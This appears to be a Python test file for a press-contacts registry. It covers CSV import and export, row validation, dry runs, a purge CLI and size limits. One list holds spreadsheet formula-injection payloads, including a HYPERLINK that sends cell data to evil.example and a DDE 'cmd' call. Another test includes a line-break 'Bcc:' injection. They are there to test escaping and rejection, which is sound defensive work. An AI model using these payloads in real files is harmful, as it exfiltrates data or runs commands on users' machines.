"""CSV import and registry export: BOM, semicolons, broken rows, re-import, dry run, CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from pathlib import Path

import asyncpg
import httpx
from click.testing import CliRunner

from press.contacts.cli import contacts
from press.contacts.repository import email_hash
from press.db import connect
from tests.conftest import StaffFactory
from tests.contacts.helpers import CONTACTS, names

SPREADSHEET = (
    "Nimi;Sähköposti;Puhelin;Tiedotusväline;Titteli;Maa;Kielet;Aiheet\r\n"
    "Liisa Ström;liisa@hbl.example;+358 40 111;Hufvudstadsbladet;toimittaja;FI;sv|fi;economy\r\n"
    ";nobody@x.example;;;;;;\r\n"
    "Broken Mail;not-an-address;;;;;;\r\n"
    "Olli Äijälä;olli@yle.example;;Yle;;fi;fi;transport|housing\r\n"
    "Bad Topic;bad@x.example;;;;;;astrology\r\n"
    "Twice;liisa@hbl.example;;;;;;\r\n"
)


def _upload(text: str, bom: bool = True) -> dict[str, tuple[str, bytes, str]]:
    raw = ("\ufeff" if bom else "") + text
    return {"file": ("contacts.csv", raw.encode(), "text/csv")}


async def test_import_with_bom_and_semicolons_reports_bad_rows_by_number(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    editor = await staff("editor")
    response = await client.post(CONTACTS + "/import", files=_upload(SPREADSHEET), headers=editor)
    assert response.status_code == 201, response.text
    report = response.json()
    assert (report["rows"], report["created"], report["unchanged"]) == (6, 2, 0)
    problems = {p["row"]: p["reasons"] for p in report["rejected"]}
    assert set(problems) == {3, 4, 6, 7}
    assert problems[3] == ["name is empty"]
    assert "not valid" in problems[4][0]
    assert problems[6] == ["unknown topic 'astrology'"]
    assert problems[7] == ["the same e-mail address as row 2"]
    assert report["columns"]["Sähköposti"] == "email"
    assert await names(client, editor) == ["Liisa Ström", "Olli Äijälä"]
    liisa = (await client.get(CONTACTS + "/?q=strom", headers=editor)).json()["items"][0]
    assert liisa["outlets"] == [{"id": liisa["outlets"][0]["id"], "name": "Hufvudstadsbladet",
                                 "role": "toimittaja"}]  # fmt: skip
    assert liisa["languages"] == ["sv", "fi"]
    assert liisa["country"] == "FI"


async def test_reimporting_the_same_file_changes_nothing(
    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
) -> None:
    editor = await staff("editor")
    await client.post(CONTACTS + "/import", files=_upload(SPREADSHEET), headers=editor)
    before = await conn.fetch("SELECT * FROM contacts ORDER BY id")
    outlets = await conn.fetchval("SELECT count(*) FROM outlets")
    again = (
        await client.post(CONTACTS + "/import", files=_upload(SPREADSHEET), headers=editor)
    ).json()
    assert (again["created"], again["unchanged"]) == (0, 2)
    assert await conn.fetch("SELECT * FROM contacts ORDER BY id") == before
    assert await conn.fetchval("SELECT count(*) FROM outlets") == outlets


async def test_dry_run_reports_exactly_and_writes_nothing(
    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
) -> None:
    editor = await staff("editor")
    text = "name,email\nAda,ada@x.example\nBea,bea@x.example\n"
    report = await client.post(
        CONTACTS + "/import?dry_run=true", files=_upload(text, bom=False), headers=editor
    )
    assert (report.json()["created"], report.json()["dry_run"]) == (2, True)
    assert await conn.fetchval("SELECT count(*) FROM contacts") == 0


async def test_file_without_name_or_email_column_is_refused_whole(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    editor = await staff("editor")
    response = await client.post(
        CONTACTS + "/import", files=_upload("who,where\nA,B\n"), headers=editor
    )
    assert response.status_code == 422
    latin1 = {"file": ("c.csv", "name;email\nÅsa;a@x.example\n".encode("latin-1"), "text/csv")}
    assert (
        await client.post(CONTACTS + "/import", files=latin1, headers=editor)
    ).status_code == 422


async def test_export_csv_reimports_to_the_same_registry(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    editor = await staff("editor")
    await client.post(CONTACTS + "/import", files=_upload(SPREADSHEET), headers=editor)
    exported = await client.get(CONTACTS + "/export", params={"format": "csv"}, headers=editor)
    assert exported.headers["content-type"].startswith("text/csv")
    text = exported.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [r["name"] for r in rows] == ["Liisa Ström", "Olli Äijälä"]
    again = await client.post(
        CONTACTS + "/import",
        files={"file": ("e.csv", exported.content, "text/csv")},
        headers=editor,
    )
    assert (again.json()["created"], again.json()["unchanged"]) == (0, 2)
    as_json = await client.get(CONTACTS + "/export", params={"beat": "transport"}, headers=editor)
    assert [c["name"] for c in as_json.json()["items"]] == ["Olli Äijälä"]


async def test_cli_import_then_purge(fresh_database_url: str, tmp_path: Path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text("\ufeffname;email\nAda Åkerblom;ada@x.example\nBad;nope\n", encoding="utf-8")
    env = {
        "DATABASE_URL": fresh_database_url,
        "PRESS_SECRET_KEY": "k",
        "PRESS_DATA_DIR": str(tmp_path),
    }
    runner = CliRunner()
    dry = await asyncio.to_thread(
        runner.invoke, contacts, ["import", str(path), "--dry-run"], env=env
    )
    assert dry.exit_code == 0, dry.output
    assert "1 would be created" in dry.output
    done = await asyncio.to_thread(runner.invoke, contacts, ["import", str(path)], env=env)
    assert "1 created" in done.output
    assert "3" in done.output  # the bad row's number
    conn = await connect(fresh_database_url)
    try:
        await conn.execute("UPDATE contacts SET updated_at = now() - interval '5 years'")
    finally:
        await conn.close()
    listed = await asyncio.to_thread(
        runner.invoke, contacts, ["purge", "--inactive-months", "24"], env=env
    )
    assert "Ada Åkerblom" in listed.output
    assert "1 contacts would be erased" in listed.output
    erased = await asyncio.to_thread(
        runner.invoke, contacts, ["purge", "--inactive-months", "24", "--yes"], env=env
    )
    assert "1 contacts erased" in erased.output
    again = await asyncio.to_thread(
        runner.invoke, contacts, ["purge", "--inactive-months", "24", "--yes"], env=env
    )
    assert "0 contacts erased" in again.output


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B2,"Open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]  # fmt: skip


async def test_export_cells_a_spreadsheet_would_run_as_formulas_read_back_as_text(
    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
) -> None:
    editor = await staff("editor")
    body = {"email": "eve@x.example", "consent_text_version": "v1", "name": FORMULAS[0]}
    assert (await client.post("/api/v1/subscriptions/", json=body)).status_code == 202
    # Older rows, or cells the API lets through as multi-line text, hold the rest.
    await conn.execute(
        "UPDATE contacts SET notes = $1, tags = $2 WHERE email = 'eve@x.example'",
        FORMULAS[-1],
        FORMULAS[1:-1],
    )
    exported = await client.get(CONTACTS + "/export", params={"format": "csv"}, headers=editor)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
    [eve] = rows
    assert eve["name"] == "'" + FORMULAS[0]
    assert eve["notes"] == "'" + FORMULAS[-1]
    assert eve["tags"] == "'" + "|".join(FORMULAS[1:-1])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in eve.values())


async def test_export_reimports_formula_like_values_as_they_were_typed(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    editor = await staff("editor")
    text = "name;email;phone;notes\r\n-Anna-;anna@x.example;+358 40 222;=not a formula\r\n"
    await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)
    exported = await client.get(CONTACTS + "/export", params={"format": "csv"}, headers=editor)
    assert "'-Anna-" in exported.content.decode("utf-8-sig")
    again = await client.post(
        CONTACTS + "/import?dry_run=true",
        files={"file": ("e.csv", exported.content, "text/csv")},
        headers=editor,
    )
    assert (again.json()["created"], again.json()["rejected"]) == (0, [])
    anna = (await client.get(CONTACTS + "/", params={"q": "anna"}, headers=editor)).json()
    assert (anna["items"][0]["name"], anna["items"][0]["phones"]) == ("-Anna-", ["+358 40 222"])


async def test_import_refuses_a_name_spread_over_two_lines(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    editor = await staff("editor")
    text = 'name;email\r\n"Eve\r\nBcc: x@y.example";eve@x.example\r\nAda;ada@x.example\r\n'
    report = (await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)).json()
    assert report["created"] == 1
    [problem] = report["rejected"]
    assert problem["reasons"] == ["name must be one line of text, without line breaks or "
                                  "control characters"]  # fmt: skip


async def test_a_cell_past_the_csv_field_limit_is_a_422_naming_the_limit_and_row(
    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
) -> None:
    text = "name;email;notes\nAda;ada@x.example;ok\nBea;bea@x.example;" + "n" * 200_000 + "\n"
    response = await client.post(
        CONTACTS + "/import", files=_upload(text), headers=await staff("editor")
    )
    assert response.status_code == 422, response.text
    problem = response.json()
    assert (problem["limit"], problem["maximum"], problem["row"]) == ("cell-size", 131_072, 3)
    assert "Row 3" in problem["detail"]
    assert await conn.fetchval("SELECT count(*) FROM contacts") == 0


async def test_cells_longer_than_their_field_are_rejected_per_row_and_the_rest_imported(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    text = (
        "name;email;notes;tags;outlet\n"
        "Ada;ada@x.example;" + "n" * 5_001 + ";;\n"
        "Bea;bea@x.example;;" + "t" * 65 + ";\n"
        "Cai;cai@x.example;;;" + "o" * 201 + "\n"
        "Dan;dan@x.example;null \0 byte;;\n"
        "Eva;" + "e" * 250 + "@x.example;;;\n"
        "Fay;fay@x.example;fine;press;Yle\n"
    )
    editor = await staff("editor")
    response = await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)
    assert response.status_code == 201, response.text
    report = response.json()
    assert (report["rows"], report["created"]) == (6, 1)
    problems = {p["row"]: p["reasons"] for p in report["rejected"]}
    assert problems == {
        2: ["notes: Expected `str` of length <= 5000"],
        3: ["tags[0]: Expected `str` of length <= 64"],
        4: ["outlet name: Expected `str` of length <= 200"],
        5: ["a cell contains a NUL character, which no text may hold"],
        6: ["email: Expected `str` of length <= 254"],
    }
    assert await names(client, editor) == ["Fay"]


def _large_spreadsheet(rows: int) -> tuple[str, dict[int, list[str]]]:
    """A CSV of `rows` rows, ten kinds in turn, and the reasons each rejected row must get.
    Row numbers count the header as row 1, as a spreadsheet does."""
    lines = ["name;email;other emails;outlet;role;topics"]
    rejected: dict[int, list[str]] = {}
    for i in range(rows):
        number, kind = i + 2, i % 10
        email, other, outlet, topics = f"new{i}@x.example", "", "", ""
        if kind == 0:  # new, with a new outlet shared by many rows
            outlet = f"Lehti {i % 37}"
        elif kind == 1:  # new, with an alias a later row uses as its e-mail
            other = f"alias{i}@x.example"
        elif kind == 2:  # in the registry already
            email = f"known{i}@x.example"
        elif kind == 3:  # an alias of a contact in the registry
            other = f"old{i}@x.example"
        elif kind == 4:
            email = f"new{i}-at-x.example"
            rejected[number] = [f"e-mail address {email!r} is not valid"]
        elif kind == 5:  # the e-mail of the kind-0 row five rows up
            email = f"new{i - 5}@x.example"
            rejected[number] = [f"the same e-mail address as row {number - 5}"]
        elif kind == 6:  # the alias of the kind-1 row five rows up: its contact holds it
            email = f"alias{i - 5}@x.example"
        elif kind == 7:
            email = f"erased{i}@x.example"
            rejected[number] = ["the address belongs to a person erased at their request"]
        elif kind == 8:
            topics = "astrology"
            rejected[number] = ["unknown topic 'astrology'"]
        else:  # new, naming an outlet in the registry in another case
            outlet = "YLE"
        role = "toimittaja" if outlet else ""
        lines.append(f"Toimittaja {i};{email};{other};{outlet};{role};{topics}")
    return "\n".join(lines) + "\n", rejected


async def test_ten_thousand_rows_get_the_same_per_row_report_in_seconds(
    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
) -> None:
    count = 10_000
    text, rejected = _large_spreadsheet(count)
    known = [i for i in range(count) if i % 10 == 2]
    aliased = [i for i in range(count) if i % 10 == 3]
    await conn.execute(
        "INSERT INTO contacts (name, email, other_emails) "
        "SELECT 'Known ' || i, 'known' || i || '@x.example', '{}' FROM unnest($1::int[]) i "
        "UNION ALL SELECT 'Old ' || i, 'elsewhere' || i || '@x.example', "
        "ARRAY['OLD' || i || '@x.example'] FROM unnest($2::int[]) i",
        known,
        aliased,
    )
    erased = [f"erased{i}@x.example" for i in range(count) if i % 10 == 7]
    await conn.execute(
        "INSERT INTO suppressed_emails (email_hash, reason) "
        "SELECT h, 'erasure' FROM unnest($1::bytea[]) h",
        [email_hash("test-secret", address) for address in erased],
    )
    yle = await conn.fetchval("INSERT INTO outlets (name) VALUES ('Yle') RETURNING id")
    before = await conn.fetchval("SELECT count(*) FROM contacts")
    editor = await staff("editor")

    started = time.perf_counter()
    response = await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)
    elapsed = time.perf_counter() - started

    assert response.status_code == 201, response.text
    report = response.json()
    assert (report["rows"], report["created"], report["unchanged"]) == (count, 3_000, 3_000)
    assert {p["row"]: p["reasons"] for p in report["rejected"]} == rejected
    assert [p["row"] for p in report["rejected"]] == sorted(rejected)
    assert await conn.fetchval("SELECT count(*) FROM contacts") == before + 3_000
    links = await conn.fetch(
        "SELECT o.name, count(*), min(co.role) AS role FROM contact_outlets co "
        "JOIN outlets o ON o.id = co.outlet_id GROUP BY o.name"
    )
    assert {r["name"]: r["count"] for r in links}["Yle"] == 1_000
    assert len(links) == 38  # Lehti 0 … Lehti 36 made once each, and Yle
    assert {r["role"] for r in links} == {"toimittaja"}
    assert await conn.fetchval("SELECT count(*) FROM outlets WHERE lower(name) = 'yle'") == 1
    assert await conn.fetchval("SELECT id FROM outlets WHERE name = 'Yle'") == yle
    assert elapsed < 20, f"{elapsed:.1f} s"  # row by row, 10,000 rows took minutes

    again = await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)
    assert (again.json()["created"], again.json()["unchanged"]) == (0, 6_000)
    assert {p["row"]: p["reasons"] for p in again.json()["rejected"]} == rejected


async def test_a_file_past_the_body_limit_is_a_413_saying_so(
    client: httpx.AsyncClient, staff: StaffFactory
) -> None:
    text = "name;email\n" + "Ada Åkerblom;ada@x.example\n" * 400_000  # about 11 MB
    response = await client.post(
        CONTACTS + "/import", files=_upload(text), headers=await staff("editor")
    )
    assert response.status_code == 413, response.text
    assert "at most 10 MB" in response.json()["detail"]
